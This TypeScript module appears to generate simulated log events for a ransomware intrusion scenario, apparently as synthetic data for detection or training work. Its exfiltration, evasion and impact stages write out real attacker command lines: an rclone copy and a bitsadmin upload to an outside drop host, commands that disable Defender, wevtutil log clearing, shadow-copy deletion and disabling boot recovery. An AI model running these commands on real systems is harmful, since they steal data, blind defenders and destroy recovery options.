import { reach, run, start, stop } from "./actions.js";
import { openConsole } from "./background.js";
import { at } from "./clock.js";
import type { Journal } from "./journal.js";
import type { Machine, Proc } from "./machine.js";
import { PROGRAMS, program } from "./programs.js";
import { auditCleared } from "./security.js";
import { fileCreated, valueSet } from "./sysmon.js";
import { engineStarted, pipeline, scriptBlock, serviceState, systemLogCleared } from "./system.js";
import { OUTSIDE } from "./topology.js";

const STAGE = "C:\\ProgramData\\spool";

/** Out through a renamed rclone from the file server and through BITS from the build host. */
export function exfiltration(journal: Journal, files: Machine, shell: Proc, build: Machine, remote: Proc): void {
  journal.during("exfiltration", () => {
    const tool = program(`${STAGE}\\spoolcfg.exe`, "Rsync for cloud storage", "Rclone", "1.65.2", "rclone.exe");
    fileCreated(files, shell, at("14:32:20"), tool.path);
    fileCreated(files, shell, at("14:32:24"), `${STAGE}\\spool.conf`);
    const line = `${tool.path} copy ${STAGE}\\q1.7z weft:drop --config ${STAGE}\\spool.conf --transfers 8`;
    const copy = start(files, shell, tool, line, at("14:33:00"), { loads: 3 });
    for (let i = 0; i < 12; i++) reach(files, copy, at("14:33:01") + i * 14_000, { ...OUTSIDE.drop, port: 443 });
    stop(files, copy, at("14:36:10"));

    const prompt = openConsole(build, remote, "C:\\Windows\\system32\\cmd.exe", at("14:37:30"));
    const zip = `a ${STAGE}\\src.zip C:\\BuildAgent\\work\\mill\\src`;
    const packer = start(build, prompt, PROGRAMS.sevenZip, `"${PROGRAMS.sevenZip.path}" ${zip}`, at("14:37:41"));
    fileCreated(build, packer, at("14:37:42"), `${STAGE}\\src.zip`);
    stop(build, packer, at("14:38:05"));
    const send = `bitsadmin /transfer weft /upload /priority high http://${OUTSIDE.drop.ip}/in/src.zip ${STAGE}\\src.zip`;
    run(build, prompt, PROGRAMS.bitsadmin, send, at("14:38:30"), 45_000);
    serviceState(build, at("14:38:31"), "Background Intelligent Transfer Service", "running");
    reach(build, build.proc("netsvcs"), at("14:38:33"), { ip: OUTSIDE.drop.ip, port: 80 });
    stop(build, prompt, at("14:40:00"));
  });
}

/** Protection off and logs cleared on both servers. */
export function evasion(journal: Journal, files: Machine, shell: Proc, build: Machine, remote: Proc): void {
  journal.during("defence-evasion", () => {
    const script = "Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true";
    const time = at("14:44:03");
    const ps = start(files, shell, PROGRAMS.powershell, `powershell -NoP -C "${script}"`, time, {
      loads: 5,
    });
    engineStarted(files, ps, time + 300);
    scriptBlock(files, ps, time + 420, script);
    pipeline(files, ps, time + 460, "Set-MpPreference", {
      DisableRealtimeMonitoring: "True",
      DisableBehaviorMonitoring: "True",
    });
    stop(files, ps, time + 2600);
    const policy = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender";
    const reg = `reg add "${policy}" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`;
    const add = start(files, shell, PROGRAMS.reg, reg, at("14:44:30"), { loads: 1 });
    valueSet(files, add, at("14:44:30") + 60, `${policy}\\DisableAntiSpyware`, "DWORD (0x00000001)");
    stop(files, add, at("14:44:30") + 200);
    const clear = run(files, shell, PROGRAMS.wevtutil, "wevtutil cl Security", at("14:46:12"), 300);
    auditCleared(files, at("14:46:12") + 120, clear);
    const second = run(files, shell, PROGRAMS.wevtutil, "wevtutil.exe clear-log System", at("14:46:20"), 300);
    systemLogCleared(files, at("14:46:20") + 110, second);
    const third = run(build, remote, PROGRAMS.wevtutil, "wevtutil cl Security", at("14:47:05"), 300);
    auditCleared(build, at("14:47:05") + 130, third);
    stop(build, remote, at("14:47:30"));
  });
}

/** No way back: shadow copies, boot recovery, then the files themselves. */
export function impact(journal: Journal, m: Machine, shell: Proc): void {
  journal.during("impact", () => {
    run(m, shell, PROGRAMS.vssadmin, "vssadmin.exe delete shadows /all /quiet", at("14:52:02"), 2500);
    run(m, shell, PROGRAMS.wmic, "wmic shadowcopy delete", at("14:52:14"), 1800);
    run(m, shell, PROGRAMS.bcdedit, "bcdedit /set {default} recoveryenabled No", at("14:52:25"), 300);
    const tool = shell.parent ?? shell;
    const kinds = ["xlsx", "docx", "pdf", "csv"];
    for (let i = 0; i < 120; i++) {
      const folder = i % 2 === 0 ? "Finance\\2025" : "Shared\\Orders";
      const name = `item-${100 + i}.${kinds[i % kinds.length]}.milled`;
      fileCreated(m, tool, at("14:53:00") + i * 730, `D:\\Shares\\${folder}\\${name}`);
    }
    fileCreated(m, tool, at("14:54:40"), "D:\\Shares\\Finance\\2025\\HOW_TO_UNMILL.txt");
    fileCreated(m, tool, at("14:54:41"), "D:\\Shares\\Shared\\Orders\\HOW_TO_UNMILL.txt");
  });
}
